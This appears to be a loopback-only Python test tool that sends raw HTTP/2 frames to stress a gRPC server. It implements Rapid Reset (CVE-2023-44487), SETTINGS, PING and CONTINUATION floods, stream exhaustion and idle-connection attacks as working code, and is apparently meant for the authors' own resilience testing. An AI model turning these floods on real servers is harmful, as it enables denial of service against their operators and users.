#!/usr/bin/python3
"""HTTP/2 abuse against a gRPC server on the loopback interface, frame by frame.

Usage:
  h2_abuse.py rapid-reset HOST:PORT [--streams N] [--batch B] [--pause SECONDS] [--reconnect]
  h2_abuse.py settings-flood HOST:PORT [--frames N]
  h2_abuse.py ping-flood HOST:PORT [--frames N]
  h2_abuse.py continuation-flood HOST:PORT [--frames N]
  h2_abuse.py stream-flood HOST:PORT [--streams N]
  h2_abuse.py idle-connections HOST:PORT [--connections N] [--hold SECONDS] [--no-preface]

Each attack writes raw HTTP/2 frames (RFC 9113) over one plaintext (h2c, prior knowledge)
connection, except idle-connections, and prints one JSON line: what was sent, how long it took,
whether and when the server answered with GOAWAY (its error code and debug text) or closed the
connection. Python's standard library only: Debian 12 has python3-h2, but frames by hand keep
every byte that is sent in view.

  rapid-reset         CVE-2023-44487: HEADERS of a Compute call, then at once RST_STREAM(CANCEL),
                      N times. Every stream is cancelled, so MAX_CONCURRENT_STREAMS never binds.
  settings-flood      N SETTINGS frames, each of which the server must ACK; the attacker never
                      reads, so the ACKs pile up in the server's write buffer.
  ping-flood          the same with PING frames (each needs a PING ACK).
  continuation-flood  one HEADERS without END_HEADERS, then N CONTINUATION frames of
                      never-ending header bytes (the 2024 "CONTINUATION flood" class).
  stream-flood        N HEADERS that open streams and never send a message or a reset: the
                      server must refuse what exceeds its MAX_CONCURRENT_STREAMS.
  idle-connections    N connections that complete the HTTP/2 preface and then say nothing for
                      --hold seconds (with --no-preface: that connect and send nothing at all);
                      reports how many the server closed, and when.

Refuses any target that is not a loopback address: these are tools for measuring our own
server (tests/abuse/measure_abuse.py), not for use against anyone else's.
"""

import argparse
import ipaddress
import json
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Frame types and flags (RFC 9113 section 6).
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8
ERROR_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
               4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR",
               7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 10: "CONNECT_ERROR",
               11: "ENHANCE_YOUR_CALM", 12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED"}

PATH = b"/activation.v1.ActivationService/Compute"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def hpack_literal_indexed_name(index, value):
    """Literal header field with incremental indexing, name from the static table."""
    assert index < 63 and len(value) < 127
    return bytes([0x40 | index, len(value)]) + value


def hpack_literal_new_name(name, value):
    """Literal header field with incremental indexing, new name."""
    return bytes([0x40, len(name)]) + name + bytes([len(value)]) + value


def request_headers(authority):
    """The first request's header block, which also fills the HPACK dynamic table, and the
    6-byte block every later request sends (all six fields indexed), as a real attack would."""
    first = (b"\x83"  # :method POST (static 3)
             + b"\x86"  # :scheme http (static 6)
             + hpack_literal_indexed_name(4, PATH)  # :path
             + hpack_literal_indexed_name(1, authority)  # :authority
             + hpack_literal_indexed_name(31, b"application/grpc")  # content-type
             + hpack_literal_new_name(b"te", b"trailers"))
    # Dynamic table, newest first from index 62: te, content-type, :authority, :path.
    again = b"\x83\x86" + bytes([0x80 | 65, 0x80 | 64, 0x80 | 63, 0x80 | 62])
    return first, again


class Connection:
    """One HTTP/2 connection; reads whatever the server sends without blocking the attack."""

    def __init__(self, host, port, timeout=10, preface=True):
        self.sock = socket.create_connection((host, port), timeout=timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.inbuf = b""
        self.goaway = None  # (last_stream_id, error name, debug text, seconds into the attack)
        self.closed_at = None
        self.frames_in = {}
        self.start = time.monotonic()
        if preface:
            self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))

    def elapsed(self):
        return time.monotonic() - self.start

    def poll(self, wait=0.0):
        """Reads what is available (waiting up to `wait` s for the first bytes)."""
        if self.closed_at is not None:
            return
        while True:
            ready, _, _ = select.select([self.sock], [], [], wait)
            if not ready:
                return
            wait = 0
            try:
                data = self.sock.recv(1 << 20)
            except (ConnectionResetError, BrokenPipeError):
                data = b""
            if not data:
                self.closed_at = self.elapsed()
                return
            self.inbuf += data
            self._parse()

    def _parse(self):
        while len(self.inbuf) >= 9:
            length = int.from_bytes(self.inbuf[:3], "big")
            if len(self.inbuf) < 9 + length:
                return
            kind, flags, stream = struct.unpack(">BBI", self.inbuf[3:9])
            payload = self.inbuf[9:9 + length]
            self.inbuf = self.inbuf[9 + length:]
            self.frames_in[kind] = self.frames_in.get(kind, 0) + 1
            if kind == GOAWAY and self.goaway is None:
                last, code = struct.unpack(">II", payload[:8])
                self.goaway = {"last_stream_id": last & 0x7FFFFFFF,
                               "error": ERROR_NAMES.get(code, str(code)),
                               "debug": payload[8:].decode("utf-8", "replace")[:200],
                               "at_s": round(self.elapsed(), 3)}
            if kind == SETTINGS and not flags & ACK:
                self.send(frame(SETTINGS, ACK, 0))

    def send(self, data):
        """Sends `data`; False once the server has closed the connection."""
        if self.closed_at is not None:
            return False
        try:
            self.sock.sendall(data)
            return True
        except (ConnectionResetError, BrokenPipeError, socket.timeout):
            self.closed_at = self.elapsed()
            return False

    def drain(self, seconds):
        """Reads until the server closes or `seconds` pass."""
        until = time.monotonic() + seconds
        while self.closed_at is None and time.monotonic() < until:
            self.poll(min(0.2, max(0.0, until - time.monotonic())))

    def report(self):
        return {"goaway": self.goaway,
                "closed_at_s": None if self.closed_at is None else round(self.closed_at, 3),
                "frames_received": {str(k): v for k, v in sorted(self.frames_in.items())}}

    def close(self):
        self.sock.close()


def split_target(target):
    host, _, port = target.rpartition(":")
    host = host.strip("[]")
    if not ipaddress.ip_address(socket.gethostbyname(host) if host == "localhost" else host
                                ).is_loopback:
        sys.exit(f"h2_abuse: {host} is not a loopback address; refusing")
    return host, int(port)


def rapid_reset(args):
    host, port = split_target(args.target)
    first, again = request_headers(b"localhost")
    rst = struct.pack(">I", CANCEL)
    start = time.monotonic()
    sent, connections, closes = 0, 0, []
    conn = None
    while sent < args.streams and time.monotonic() - start < args.max_seconds:
        if conn is None or conn.closed_at is not None:
            if conn is not None:
                closes.append(conn.report())
                conn.close()
                if not args.reconnect:
                    conn = None
                    break
            conn = Connection(host, port)
            connections += 1
            stream = 1
        burst = bytearray()
        for _ in range(min(args.batch, args.streams - sent)):
            burst += frame(HEADERS, END_HEADERS, stream, first if stream == 1 else again)
            burst += frame(RST_STREAM, 0, stream, rst)
            stream += 2
            sent += 1
        if not conn.send(bytes(burst)):
            continue
        conn.poll(args.pause)
    sending = time.monotonic() - start
    out = {"attack": "rapid-reset", "streams_sent": sent, "connections": connections,
           "send_s": round(sending, 3)}
    if conn is not None:
        conn.drain(args.linger)
        closes.append(conn.report())
        conn.close()
    # The first connection's fate is the headline; the count of the others says the rest.
    out.update(closes[0])
    out["connections_closed_by_server"] = sum(
        1 for c in closes if c["goaway"] or c["closed_at_s"] is not None)
    return out


def flood(args, kind):
    conn = Connection(*split_target(args.target))
    if kind == SETTINGS:
        # SETTINGS_MAX_CONCURRENT_STREAMS = 100, repeated: harmless to apply, must be ACKed.
        one = frame(SETTINGS, 0, 0, struct.pack(">HI", 0x3, 100))
    else:
        one = frame(PING, 0, 0, b"abuse!!!")
    batch = one * 1000
    sent = 0
    # Never read: the server's ACKs accumulate (on our side, the socket buffer fills; then the
    # server's writes back up into its own memory).
    conn.sock.setblocking(False)
    deadline = time.monotonic() + args.max_seconds
    while sent < args.frames and time.monotonic() < deadline:
        try:
            n = conn.sock.send(batch)
        except BlockingIOError:
            select.select([], [conn.sock], [], 0.05)
            continue
        except (ConnectionResetError, BrokenPipeError):
            conn.closed_at = conn.elapsed()
            break
        sent += n // len(one)
        if n < len(batch):
            select.select([], [conn.sock], [], 0.05)
    sending = conn.elapsed()
    conn.sock.setblocking(True)
    conn.sock.settimeout(10)
    # Now read what came back: GOAWAY or a close tells whether the server defended itself.
    conn.drain(args.linger)
    name = "settings-flood" if kind == SETTINGS else "ping-flood"
    out = {"attack": name, "frames_sent": sent, "send_s": round(sending, 3)}
    out.update(conn.report())
    conn.close()
    return out


def continuation_flood(args):
    conn = Connection(*split_target(args.target))
    first, _ = request_headers(b"localhost")
    conn.send(frame(HEADERS, 0, 1, first))  # no END_HEADERS: CONTINUATION must follow
    # Each CONTINUATION carries one more literal header "x: aaa...", just under the default
    # SETTINGS_MAX_FRAME_SIZE of 16 KiB (value length: an HPACK integer with a full 7-bit
    # prefix, then its continuation bytes).
    value = b"a" * 16000
    block = bytes([0x40, 1]) + b"x" + bytes([0x7F]) + _hpack_int(len(value) - 127) + value
    sent = 0
    deadline = time.monotonic() + args.max_seconds
    while sent < args.frames and conn.closed_at is None and time.monotonic() < deadline:
        if not conn.send(frame(CONTINUATION, 0, 1, block)):
            break
        sent += 1
        if sent % 64 == 0:
            conn.poll()
    sending = conn.elapsed()
    conn.drain(args.linger)
    out = {"attack": "continuation-flood", "frames_sent": sent,
           "header_bytes_sent": sent * len(block), "send_s": round(sending, 3)}
    out.update(conn.report())
    conn.close()
    return out


def _hpack_int(rest):
    """The continuation bytes of an HPACK integer whose prefix is full."""
    out = bytearray()
    while rest >= 128:
        out.append(rest & 0x7F | 0x80)
        rest >>= 7
    out.append(rest)
    return bytes(out)


def stream_flood(args):
    conn = Connection(*split_target(args.target))
    first, again = request_headers(b"localhost")
    stream = 1
    for _ in range(args.streams):
        if not conn.send(frame(HEADERS, END_HEADERS, stream, first if stream == 1 else again)):
            break
        stream += 2
        conn.poll()
    sending = conn.elapsed()
    conn.drain(args.linger)
    refused = conn.frames_in.get(RST_STREAM, 0)
    out = {"attack": "stream-flood", "streams_opened": (stream - 1) // 2,
           "rst_stream_received": refused, "send_s": round(sending, 3)}
    out.update(conn.report())
    conn.close()
    return out


def idle_connections(args):
    host, port = split_target(args.target)
    conns = []
    failed = 0
    for _ in range(args.connections):
        try:
            conns.append(Connection(host, port, timeout=5, preface=not args.no_preface))
        except OSError:
            failed += 1
    opened = time.monotonic()
    until = opened + args.hold
    while time.monotonic() < until:
        for c in conns:
            c.poll()
        if all(c.closed_at is not None for c in conns):
            break
        time.sleep(0.5)
    closed = [c.closed_at for c in conns if c.closed_at is not None]
    goaways = sum(1 for c in conns if c.goaway is not None)
    for c in conns:
        c.close()
    return {"attack": "idle-connections" + ("-no-preface" if args.no_preface else ""),
            "connections": len(conns), "connect_failed": failed,
            "hold_s": args.hold, "closed_by_server": len(closed), "goaway_received": goaways,
            "first_close_s": round(min(closed), 2) if closed else None,
            "last_close_s": round(max(closed), 2) if closed else None}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = parser.add_subparsers(dest="attack", required=True)
    for name in ("rapid-reset", "settings-flood", "ping-flood", "continuation-flood",
                 "stream-flood", "idle-connections"):
        p = sub.add_parser(name)
        p.add_argument("target", help="HOST:PORT on the loopback interface")
        p.add_argument("--linger", type=float, default=5,
                       help="seconds to keep reading after the attack (GOAWAY, close)")
        p.add_argument("--max-seconds", type=float, default=60, help="bound on sending")
    sub.choices["rapid-reset"].add_argument("--streams", type=int, default=100000)
    sub.choices["rapid-reset"].add_argument("--batch", type=int, default=500,
                                            help="streams per write")
    sub.choices["rapid-reset"].add_argument(
        "--reconnect", action="store_true",
        help="when the server closes the connection, open another until --streams are sent")
    sub.choices["rapid-reset"].add_argument("--pause", type=float, default=0,
                                            help="seconds between writes (to stay under a "
                                                 "per-read stream limit)")
    for name in ("settings-flood", "ping-flood"):
        sub.choices[name].add_argument("--frames", type=int, default=1000000)
    sub.choices["continuation-flood"].add_argument("--frames", type=int, default=10000)
    sub.choices["stream-flood"].add_argument("--streams", type=int, default=10000)
    sub.choices["idle-connections"].add_argument("--connections", type=int, default=1000)
    sub.choices["idle-connections"].add_argument("--hold", type=float, default=30)
    sub.choices["idle-connections"].add_argument(
        "--no-preface", action="store_true",
        help="TCP only: never send the HTTP/2 preface (the handshake timeout's case)")
    args = parser.parse_args()
    run = {"rapid-reset": rapid_reset,
           "settings-flood": lambda a: flood(a, SETTINGS),
           "ping-flood": lambda a: flood(a, PING),
           "continuation-flood": continuation_flood,
           "stream-flood": stream_flood,
           "idle-connections": idle_connections}[args.attack]
    print(json.dumps(run(args)))


if __name__ == "__main__":
    main()
